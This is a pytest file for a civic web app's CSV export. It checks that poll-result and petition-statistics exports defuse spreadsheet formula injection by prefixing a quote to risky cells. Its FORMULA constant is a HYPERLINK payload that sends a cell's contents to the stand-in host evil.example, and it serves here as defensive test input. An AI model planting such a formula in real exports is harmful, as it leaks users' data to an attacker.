"""No CSV civic publishes lets a cell run as a spreadsheet formula (CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from civic.csv_export import rows_to_csv, safe_cell
from civic.db import unit_of_work
from civic.participation import service as participation
from tests.factories import make_user
from tests.participation.builders import close_now, make_poll

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_get_a_leading_quote(text):
    assert safe_cell(text) == "'" + text
    assert _rows_of(rows_to_csv(["a"], [[text]]))[1] == ["'" + text]


def test_plain_text_and_numbers_are_untouched():
    assert safe_cell("서울 강서구") == "서울 강서구"
    assert safe_cell(-3) == -3 and safe_cell(None) == ""
    assert _rows_of(rows_to_csv(["n"], [[-3]]))[1] == ["-3"]


def _rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_poll_results_csv_neutralises_a_formula_option(client, departments):
    poll = make_poll(options=(FORMULA, "반대"), results_visibility="after_close")
    participation.cast_vote(make_user(), poll.id, poll.options[0].id)
    close_now(poll)
    for url in (f"/api/v1/polls/{poll.id}/results.csv", f"/polls/{poll.id}/results.csv"):
        rows = _rows(client.get(url))
        assert rows[1][1] == "'" + FORMULA, url


def test_statistics_csv_neutralises_a_formula_department_name(client, departments):
    from civic.petitions import service as petitions
    from civic.petitions.seed import seed as seed_petitions

    seed_petitions()
    petition = petitions.file_petition(make_user(), type_code="parks", title="Bench", body="Broken.")
    with unit_of_work():
        petition.department.name_ko = FORMULA
    rows = _rows(client.get("/api/v1/stats/petitions.csv?days=90"))
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in names
    assert FORMULA not in names


def test_every_csv_in_civic_is_written_through_csv_export():
    """A new export cannot forget the rule: only civic/csv_export.py may build a csv writer."""
    offenders = []
    for path in (ROOT / "civic").rglob("*.py"):
        if path.name == "csv_export.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
